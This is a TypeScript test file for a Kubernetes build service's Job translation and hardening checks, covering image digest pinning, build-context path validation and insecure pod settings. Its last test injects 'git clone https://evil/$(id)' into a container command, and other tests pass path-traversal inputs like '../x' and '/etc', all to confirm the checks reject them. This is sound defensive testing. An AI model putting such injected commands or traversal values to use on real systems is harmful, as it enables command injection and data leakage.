import { manifestSpec } from '../../test/support/build-specs.js';
import type { V1Job } from '@kubernetes/client-node';

import type { BuildSpec, SpecContext } from './build-spec.js';
import { GIT_IMAGE, isPinnedByDigest, KANIKO_IMAGE } from './images.js';
import {
  buildObjectName,
  contextDirectory,
  DEFAULT_JOB_SETTINGS,
  hardeningProblems,
  type JobContext,
} from './job.js';
import { kaniko } from './kaniko.js';
import { BUILD_METHODS } from './methods.js';
import type { MethodName } from './types.js';

const specContext: SpecContext = {
  project: {
    name: 'web',
    gitRepositoryUrl: 'https://git.example.com/web.git',
    defaultRegistry: null,
  },
  defaultRegistry: 'reg.io/kiln',
  timeoutSeconds: 600,
};

const jobContext: JobContext = {
  buildId: '0f0e0d0c-0b0a-4909-8807-060504030201',
  tenantId: 'tenant-1',
  projectId: 'project-1',
  buildNumber: 3,
  namespace: 'kiln-builds',
  settings: DEFAULT_JOB_SETTINGS,
  configMapName: 'kiln-0f0e0d0c-0b0a-4909-8807-060504030201',
};

/** The spec kiln stores for a manifest of `type` with no build-time environment. */
function specOf(type: MethodName, buildConfig: Record<string, unknown>): BuildSpec {
  return manifestSpec(specContext, type, buildConfig, { environment: {} });
}

/** A kaniko Job that keeps every rule, to break one rule at a time. */
function goodJob(): V1Job {
  const translation = kaniko.jobSpec(
    specOf('kaniko', { dockerfile: 'FROM scratch\n' }),
    jobContext,
  );
  if (translation.kind !== 'job') throw new Error(translation.reason);
  return structuredClone(translation.job);
}

describe('methods without a Job yet', () => {
  it.each<[MethodName, BuildSpec]>([
    ['buildx', specOf('buildx', { dockerfile: 'FROM scratch\n' })],
    [
      'paketo',
      specOf('paketo', { paketo_config: { builder: 'paketobuildpacks/builder-jammy-base' } }),
    ],
    ['packer', specOf('packer', { packer_template: 'source "null" "x" {}' })],
  ])('%s answers unsupported, pointing at the local runner', (method, spec) => {
    expect(BUILD_METHODS[method].jobSpec(spec, jobContext)).toEqual({
      kind: 'unsupported',
      reason: `${method} builds cannot run on Kubernetes yet; use the local runner`,
    });
  });
});

describe('DEFAULT_JOB_SETTINGS', () => {
  it('pins every image by digest', () => {
    expect([
      ...Object.values(DEFAULT_JOB_SETTINGS.builderImages),
      DEFAULT_JOB_SETTINGS.gitImage,
    ]).toEqual([KANIKO_IMAGE, GIT_IMAGE]);
    expect(isPinnedByDigest(KANIKO_IMAGE)).toBe(true);
    expect(isPinnedByDigest(GIT_IMAGE)).toBe(true);
  });

  it('names no credentials, service account or insecure registry', () => {
    expect(DEFAULT_JOB_SETTINGS.credentialsSecret).toBeUndefined();
    expect(DEFAULT_JOB_SETTINGS.serviceAccountName).toBeUndefined();
    expect(DEFAULT_JOB_SETTINGS.insecureRegistries).toEqual([]);
  });
});

describe(isPinnedByDigest.name, () => {
  it.each([
    ['alpine@sha256:' + 'a'.repeat(64), true],
    ['reg.io:5000/a/b:1.2@sha256:' + '0'.repeat(64), true],
    ['alpine:3.20', false],
    ['alpine@sha256:' + 'a'.repeat(63), false],
    ['alpine@sha256:' + 'A'.repeat(64), false],
    ['alpine:latest @sha256:' + 'a'.repeat(64), false],
  ])('%s → %s', (image, pinned) => {
    expect(isPinnedByDigest(image)).toBe(pinned);
  });
});

describe(buildObjectName.name, () => {
  it('names the Job and the ConfigMap kiln-<buildId>', () => {
    expect(buildObjectName('abc')).toBe('kiln-abc');
  });
});

describe(contextDirectory.name, () => {
  const source = (repository: string | null, context: string) => ({
    repository,
    branch: null,
    commit: null,
    context,
  });

  it.each([
    ['.', '/workspace/source'],
    ['app', '/workspace/source/app'],
    ['./app/../web/', '/workspace/source/web'],
    ['app/..', '/workspace/source'],
  ])('puts %s under the checkout at %s', (context, dir) => {
    expect(contextDirectory(source('https://g/x.git', context))).toBe(dir);
  });

  it.each(['..', '../x', '/etc', 'a/../../b'])('refuses %s, outside the checkout', (context) => {
    expect(contextDirectory(source('https://g/x.git', context))).toEqual({
      problem: `build context ${context} is outside the source`,
    });
  });

  it('uses the ConfigMap directory without a repository', () => {
    expect(contextDirectory(source(null, '.'))).toBe('/kiln/dockerfile');
    expect(contextDirectory(source(null, './'))).toBe('/kiln/dockerfile');
  });
});

describe(hardeningProblems.name, () => {
  it('finds nothing wrong in a translated Job', () => {
    expect(hardeningProblems(goodJob())).toEqual([]);
  });

  it.each<[string, (job: V1Job) => void, string]>([
    ['a retrying Job', (job) => (job.spec!.backoffLimit = 1), 'backoffLimit must be 0'],
    [
      'no deadline',
      (job) => delete job.spec!.activeDeadlineSeconds,
      'activeDeadlineSeconds must be a positive integer',
    ],
    [
      'a TTL before the logs are stored',
      (job) => (job.spec!.ttlSecondsAfterFinished = 60),
      'ttlSecondsAfterFinished is set only after the logs are stored',
    ],
    [
      'an owner already set',
      (job) =>
        (job.metadata!.ownerReferences = [{ apiVersion: 'v1', kind: 'X', name: 'x', uid: 'u' }]),
      'ownerReferences are set by the reconciler',
    ],
    [
      'a pod without the build id label',
      (job) => delete job.spec!.template.metadata!.labels!['kiln.dev/build-id'],
      'the pod template must carry kiln.dev/build-id',
    ],
    [
      'a restarting pod',
      (job) => (job.spec!.template.spec!.restartPolicy = 'OnFailure'),
      'restartPolicy must be Never',
    ],
    [
      'a mounted token',
      (job) => delete job.spec!.template.spec!.automountServiceAccountToken,
      'automountServiceAccountToken must be false',
    ],
    [
      'service links',
      (job) => (job.spec!.template.spec!.enableServiceLinks = true),
      'enableServiceLinks must be false',
    ],
    [
      'the host network',
      (job) => (job.spec!.template.spec!.hostNetwork = true),
      'the pod must not set hostNetwork',
    ],
    [
      'no seccomp profile',
      (job) => delete job.spec!.template.spec!.securityContext,
      'the pod must use the RuntimeDefault seccomp profile',
    ],
    [
      'a hostPath volume',
      (job) => job.spec!.template.spec!.volumes!.push({ name: 'h', hostPath: { path: '/' } }),
      'volume h is a hostPath',
    ],
    [
      'an image by tag',
      (job) => (job.spec!.template.spec!.containers[0]!.image = 'alpine:3'),
      'container build: image alpine:3 is not pinned by digest',
    ],
    [
      'no ephemeral-storage limit',
      (job) =>
        delete job.spec!.template.spec!.initContainers![0]!.resources!.limits!['ephemeral-storage'],
      'container source: no ephemeral-storage in resources.limits',
    ],
    [
      'a privileged container',
      (job) => (job.spec!.template.spec!.containers[0]!.securityContext!.privileged = true),
      'container build: privileged',
    ],
    [
      'the default termination message policy',
      (job) => delete job.spec!.template.spec!.containers[0]!.terminationMessagePolicy,
      'container build: terminationMessagePolicy must be FallbackToLogsOnError',
    ],
    [
      'user text in a shell script',
      (job) =>
        (job.spec!.template.spec!.initContainers![0]!.command = [
          '/bin/sh',
          '-c',
          'git clone https://evil/$(id)',
        ]),
      "container source: a shell runs a script other than kiln's constant source script",
    ],
  ])('reports %s', (_name, breakIt, problem) => {
    const job = goodJob();
    breakIt(job);

    expect(hardeningProblems(job)).toEqual([problem]);
  });
});
